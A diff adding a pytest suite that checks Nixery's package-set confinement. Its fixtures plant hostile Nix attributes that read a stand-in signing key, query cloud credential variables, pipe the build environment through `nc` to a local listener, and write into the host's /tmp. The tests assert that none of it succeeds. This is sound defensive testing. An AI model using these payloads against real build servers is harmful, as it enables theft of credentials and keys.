@@ -1,0 +1,243 @@
+"""Package-set code cannot reach the server: hostile sets read a secret, the environment and the
+host's files, and nothing of it reaches any stored blob (nixery/nix/confine.py).
+
+Each set is the shared test set plus attributes an attacker would write: evaluation that reads a
+file the server can read (mode 0600, the server's own), a store copy of that file, `getEnv` of
+every variable of Nixery's configuration and of cloud credentials, a builder that dumps its
+environment, a fixed-output builder (the one kind with network in the sandbox) that sends the
+variables it may ask Nix for to a listener, and a builder that writes into the host's /tmp."""
+
+from __future__ import annotations
+
+import gzip
+import json
+import os
+import socket
+import tarfile
+import threading
+import uuid
+from pathlib import Path
+from typing import Iterator
+
+import pytest
+import requests
+
+from pkgset import make_package_set
+from support import NIX_ENV, pull_and_unpack, skopeo_pull
+from nixery import preflight
+from nixery.config import VARIABLE_NAMES
+
+# Cloud credentials a server may hold in its environment, besides Nixery's own variables.
+CLOUD_VARIABLES = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN",
+                   "GOOGLE_APPLICATION_CREDENTIALS", "GOOGLE_OAUTH_ACCESS_TOKEN", "AZURE_CLIENT_SECRET")
+WATCHED = tuple(sorted(VARIABLE_NAMES | set(CLOUD_VARIABLES)))
+COMMIT = "a7" * 20
+
+
+class Listener:
+    """A TCP port on 127.0.0.1 that keeps whatever is sent to it."""
+
+    def __init__(self) -> None:
+        self.sock = socket.create_server(("127.0.0.1", 0))
+        self.port = self.sock.getsockname()[1]
+        self.received = bytearray()
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self) -> None:
+        while True:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                return
+            with conn:
+                conn.settimeout(10)
+                while chunk := conn.recv(65536):
+                    self.received += chunk
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    server = Listener()
+    yield server
+    server.sock.close()
+
+
+def hostile_set(directory: Path, secret: Path, port: int = 0, escape: Path = Path("/nonexistent")) -> Path:
+    """The test set plus an attacker's attributes (see the module's docstring)."""
+    salt = uuid.uuid4().hex[:12]
+    make_package_set(directory, salt=salt)
+    names = " ".join(json.dumps(name) for name in WATCHED)
+    attributes = f'''
+  leak = mk "leak" ''
+    mkdir -p $out/etc && echo ${{builtins.toJSON (builtins.readFile "{secret}")}} > $out/etc/leaked
+  '';
+  leakcopy = mk "leakcopy" ''
+    mkdir -p $out/etc && ln -s ${{builtins.path {{ path = /. + "{secret}"; name = "copied"; }}}} $out/etc/copied
+  '';
+  envFetch = derivation {{
+    name = "env-fetch-${{salt}}"; system = buildSystem; builder = bb; PATH = "${{bbdir}}/bin";
+    args = [ "sh" "-c" "env | nc -w 2 127.0.0.1 {port}; echo fetched > $out" ];
+    impureEnvVars = [ {names} ];
+    outputHashMode = "flat"; outputHashAlgo = "sha256";
+    outputHash = builtins.hashString "sha256" "fetched\\n";
+  }};
+  envdump = mk "envdump" ''
+    mkdir -p $out/etc
+    echo ${{builtins.toJSON (builtins.toJSON (map (n: {{ name = n; value = builtins.getEnv n; }}) [ {names} ]))}} > $out/etc/eval-env.json
+    env > $out/etc/build-env
+    cp ${{envFetch}} $out/etc/fetched
+  '';
+  escape = mk "escape" ''
+    echo escaped > {escape} || true
+    mkdir -p $out/etc && echo built > $out/etc/escape
+  '';
+'''
+    default = directory / "default.nix"
+    default.write_text(default.read_text().replace("in rec {", "in rec {" + attributes, 1))
+    return directory
+
+
+@pytest.fixture
+def secret(tmp_path) -> bytes:
+    """A stand-in key file the server (root here) can read, as it reads its signing key."""
+    value = f"stand-in-secret-{uuid.uuid4().hex}".encode()
+    path = tmp_path / "keys" / "signing-key.pem"
+    path.parent.mkdir()
+    path.write_bytes(value)
+    path.chmod(0o600)
+    return value
+
+
+def secret_path(tmp_path: Path) -> Path:
+    return tmp_path / "keys" / "signing-key.pem"
+
+
+def stored_contents(storage: Path) -> Iterator[tuple[Path, bytes]]:
+    """Every blob in storage, and every layer decompressed."""
+    for path in sorted(storage.rglob("*")):
+        if path.is_file():
+            data = path.read_bytes()
+            yield path, data
+            if data[:2] == b"\x1f\x8b":
+                yield path, gzip.decompress(data)
+
+
+def assert_nowhere_in_storage(server, *needles: bytes) -> None:
+    contents = list(stored_contents(server.workdir / "storage"))
+    assert len(contents) > 3, "the control image's blobs must be there to search"
+    for path, data in contents:
+        for needle in needles:
+            assert needle not in data, f"{needle!r} in {path}"
+
+
+def pulled(server, name: str, tmp_path: Path, tag: str = "latest") -> Path:
+    """The rootfs of a pull that must succeed."""
+    workdir = tmp_path / f"pulled-{name.replace('/', '-')}-{tag}"
+    workdir.mkdir()
+    return pull_and_unpack(server.host, name, workdir, tag)
+
+
+def refused(server, name: str, tag: str, tmp_path: Path) -> str:
+    """skopeo's stderr for a pull that must fail with a reason it prints."""
+    result = skopeo_pull(server.host, name, tmp_path / f"refused-{name.replace('/', '-')}", tag)
+    assert result.returncode != 0, f"{name}:{tag} was served"
+    return result.stderr
+
+
+def test_a_path_set_cannot_read_the_servers_files(start_server, tmp_path, secret):
+    pkgs = hostile_set(tmp_path / "pkgs", secret_path(tmp_path))
+    server = start_server({"NIXERY_PKGS_PATH": str(pkgs)})
+    rootfs = pulled(server, "shell/hello", tmp_path)
+    assert (rootfs / "bin" / "hello").exists(), "restricted evaluation still serves the set's own packages"
+
+    for name in ("leak", "leakcopy"):
+        stderr = refused(server, name, "latest", tmp_path)
+        assert "forbidden in restricted mode" in stderr and "evaluates package sets in restricted mode" in stderr
+        answer = requests.get(f"{server.url}/v2/{name}/manifests/latest", timeout=60)
+        assert answer.status_code == 403 and answer.json()["errors"][0]["code"] == "DENIED"
+    assert_nowhere_in_storage(server, secret)
+
+
+@pytest.fixture
+def channel_dir(tmp_path, secret, listener) -> Path:
+    """A directory of tarballs for file://DIR/{rev}.tar.gz: `COMMIT` is the attacker's."""
+    directory = tmp_path / "tarballs"
+    directory.mkdir()
+    pkgs = hostile_set(tmp_path / "attacker", secret_path(tmp_path), port=listener.port)
+    with tarfile.open(directory / f"{COMMIT}.tar.gz", "w:gz") as tar:
+        tar.add(pkgs, arcname=f"nixpkgs-{COMMIT}")
+    return directory
+
+
+def channel_env(directory: Path, **extra: str) -> dict[str, str]:
+    return {"NIXERY_CHANNEL": "nixos-test", "NIXERY_CHANNEL_URL_TEMPLATE": f"file://{directory}/{{rev}}.tar.gz",
+            **extra}
+
+
+def test_a_commit_tag_cannot_read_the_servers_files(start_server, channel_dir, tmp_path, secret):
+    server = start_server(channel_env(channel_dir))
+    rootfs = pulled(server, "shell/hello", tmp_path, COMMIT)
+    assert (rootfs / "bin" / "hello").exists(), "the commit's own tarball may be fetched and read"
+    for name in ("leak", "leakcopy"):
+        assert "forbidden in restricted mode" in refused(server, name, COMMIT, tmp_path)
+    assert_nowhere_in_storage(server, secret)
+
+
+def test_commit_tags_refused_without_nix(start_server, channel_dir, nix_counter, tmp_path):
+    server = start_server(channel_env(channel_dir, NIXERY_CHANNEL_COMMITS="none", PATH=nix_counter.path()))
+    nix_counter.reset()
+    stderr = refused(server, "shell/hello", COMMIT, tmp_path)
+    assert "names a nixpkgs commit" in stderr and "NIXERY_CHANNEL_COMMITS" in stderr
+    answer = requests.get(f"{server.url}/v2/leak/manifests/{COMMIT}", timeout=60)
+    assert answer.status_code == 403 and answer.json()["errors"][0]["detail"] == {"tag": COMMIT}
+    assert nix_counter.count() == 0
+
+    listed = start_server(channel_env(channel_dir, NIXERY_CHANNEL_COMMITS="b" * 40 + "," + COMMIT,
+                                      PATH=nix_counter.path()))
+    assert requests.get(f"{listed.url}/v2/shell/hello/manifests/{'b' * 40}", timeout=60).status_code == 500
+    assert requests.get(f"{listed.url}/v2/shell/hello/manifests/{'c' * 40}", timeout=60).status_code == 403
+    assert requests.get(f"{listed.url}/v2/shell/hello/manifests/{COMMIT}", timeout=120).status_code == 200
+
+
+def test_a_commit_tag_cannot_read_the_servers_environment(start_server, channel_dir, listener, tmp_path):
+    marker = uuid.uuid4().hex
+    planted = {name: f"leak-{name}-{marker}" for name in CLOUD_VARIABLES + ("NIXERY_GIT_TOKEN",)}
+    server = start_server(channel_env(channel_dir, **planted))
+    rootfs = pulled(server, "envdump", tmp_path, COMMIT)
+    etc = rootfs / "etc"
+    evaluated = {entry["name"]: entry["value"] for entry in json.loads((etc / "eval-env.json").read_text())}
+    assert set(evaluated) == set(WATCHED) and set(evaluated.values()) == {""}, \
+        {k: v for k, v in evaluated.items() if v}
+    assert "PATH=" in (etc / "build-env").read_text() and (etc / "fetched").read_text() == "fetched\n"
+
+    sent = listener.received.decode()
+    assert "PATH=" in sent, "the fixed-output builder must have reported its environment"
+    fetch_env = dict(line.split("=", 1) for line in sent.splitlines() if "=" in line)
+    assert not {name: fetch_env[name] for name in WATCHED if fetch_env.get(name)}
+    config_values = [server.env[name].encode() for name in server.env
+                     if name in VARIABLE_NAMES and len(server.env[name]) > 8]
+    assert config_values, "the server's own configuration values are searched for too"
+    for text in (sent.encode(), (etc / "build-env").read_bytes()):
+        for value in (marker.encode(), *config_values):
+            assert value not in text
+    assert_nowhere_in_storage(server, marker.encode())
+
+
+def test_a_build_cannot_write_to_the_hosts_files(start_server, tmp_path, secret):
+    """With `sandbox = false` in Nix's configuration (as a container's nix.conf has it) on a
+    machine where Nix can sandbox, builds are sandboxed all the same."""
+    unsandboxed = {"NIX_CONFIG": NIX_ENV["NIX_CONFIG"] + "\nsandbox = false"}
+    environment = {"PATH": os.environ["PATH"], **unsandboxed}
+    if preflight.sandbox_problem(environment):
+        pytest.skip(f"Nix cannot sandbox here: {preflight.sandbox_problem(environment)}")
+    escape = Path("/tmp") / f"nixery-escape-{uuid.uuid4().hex}"
+    pkgs = hostile_set(tmp_path / "pkgs", secret_path(tmp_path), escape=escape)
+    server = start_server({"NIXERY_PKGS_PATH": str(pkgs), **unsandboxed})
+    assert not [e for e in server.log_entries() if "sandbox" in e.get("message", "")], \
+        "the preflight reports the sandbox on"
+    rootfs = pulled(server, "escape", tmp_path)
+    assert (rootfs / "etc" / "escape").read_text() == "built\n"
+    try:
+        assert not escape.exists(), "the builder wrote into the host's /tmp"
+    finally:
+        escape.unlink(missing_ok=True)
